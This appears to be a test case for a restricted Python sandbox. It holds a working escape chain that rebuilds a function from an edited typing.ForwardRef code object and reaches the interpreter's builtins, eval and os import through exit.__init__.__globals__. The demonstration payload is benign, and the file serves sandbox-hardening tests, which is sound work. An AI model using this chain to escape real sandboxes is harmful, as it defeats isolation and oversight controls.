# technique: the code object of a typing.ForwardRef, edited with code.replace(co_names=...), run without typing at all: the function class (type(lambda: 0), with the denied type reached as typing.get_origin(typing.Type[int])) makes a function of it
# configs: default, common
# With nothing allowed `import typing` is refused.
import typing
u = '_' * 2
real_type = typing.get_origin(typing.Type[int])
function = real_type(lambda: 0)
code = typing.ForwardRef('x.a.b').__forward_code__.replace(co_names=('x', u + 'init' + u, u + 'globals' + u))
g = function(code, {'x': exit})()
b = g[u + 'builtins' + u]
return [{'json': {'escaped': [b['eval']('6 * 7'), b[u + 'import' + u]('os').getpid()]}}]
